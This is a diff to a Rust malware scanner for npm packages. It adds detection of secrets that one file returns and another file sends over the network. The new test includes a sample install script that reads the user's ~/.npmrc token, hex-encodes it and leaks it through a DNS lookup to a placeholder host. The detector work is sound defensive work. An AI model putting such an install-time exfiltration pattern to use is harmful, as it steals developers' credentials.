@@ -779,6 +779,37 @@ fn secrets_handed_to_senders(
                 function: call.function,
             });
         }
+        // What a function of another file returns, sent over the network, where that
+        // function returns secrets (`dns.resolveTxt(encode(collect()) + ...)`).
+        for send in &f.result_sends {
+            let Some((j, name)) = resolve_function(pkg, index, facts, i, &send.callee) else {
+                continue;
+            };
+            let Some(g) = facts.get(&j) else { continue };
+            let returns = g.secret_returns.iter().any(|&k| {
+                g.reach
+                    .functions
+                    .get(k as usize)
+                    .is_some_and(|func| func.name == name)
+            });
+            if !returns {
+                continue;
+            }
+            let list = out.entry(i).or_default();
+            if !list.iter().any(|b| b.offset == send.offset) {
+                list.push(crate::RawBehaviour {
+                    kind: BehaviourKind::SecretExfiltration,
+                    top_level: send.top_level,
+                    offset: send.offset,
+                    detail: format!(
+                        "sends what {name}() of {} returns, secrets, over the network",
+                        pkg.files[j].relative
+                    ),
+                    guarded: false,
+                    function: send.function,
+                });
+            }
+        }
     }
     out
 }
@@ -1459,6 +1490,77 @@ mod tests {
                 .iter()
                 .any(|b| b.path.ends_with("tests/conftest.py"))
         );
+    }
+
+    #[test]
+    fn a_secret_returned_by_one_file_and_sent_by_another_is_exfiltration() {
+        let exfil = |a: &Analysis| {
+            a.behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.path.clone())
+                .collect::<Vec<_>>()
+        };
+        // One module gathers tokens into a list and returns it; the install script
+        // encodes what it returns and sends it as the labels of a name lookup.
+        let gather = r#"
+const fs = require('fs'), os = require('os');
+module.exports.gather = function () {
+  const out = [];
+  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+  out.push(rc);
+  return out.join(';');
+};
+"#;
+        let send = r#"
+const { gather } = require('./lib/gather');
+const dns = require('dns');
+const label = Buffer.from(gather()).toString('hex').slice(0, 60);
+dns.resolve4(label + '.q.example.invalid', () => {});
+"#;
+        let a = analyze_package(&package(
+            "demo",
+            &[
+                (
+                    "package.json",
+                    r#"{"name":"demo","version":"1.0.0","scripts":{"install":"node send.js"}}"#,
+                ),
+                ("lib/gather.js", gather),
+                ("send.js", send),
+            ],
+        ));
+        let found = exfil(&a);
+        assert!(
+            found.len() == 1 && found[0].ends_with("/send.js"),
+            "{:?}",
+            a.behaviours
+        );
+        // The twin: the module also reads the token (to authenticate its own requests)
+        // but the function the other file calls returns the package's version, which
+        // is what the telemetry sends.
+        let config = r#"
+const fs = require('fs'), os = require('os');
+function token() { return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); }
+function version() { return require('../package.json').version; }
+module.exports = { token, version };
+"#;
+        let ping = r#"
+const { version } = require('./lib/config');
+const https = require('https');
+https.get('https://telemetry.example.invalid/v?' + version(), () => {});
+"#;
+        let a = analyze_package(&package(
+            "demo",
+            &[
+                (
+                    "package.json",
+                    r#"{"name":"demo","version":"1.0.0","scripts":{"install":"node ping.js"}}"#,
+                ),
+                ("lib/config.js", config),
+                ("ping.js", ping),
+            ],
+        ));
+        assert!(exfil(&a).is_empty(), "{:?}", a.behaviours);
     }
 
     #[test]
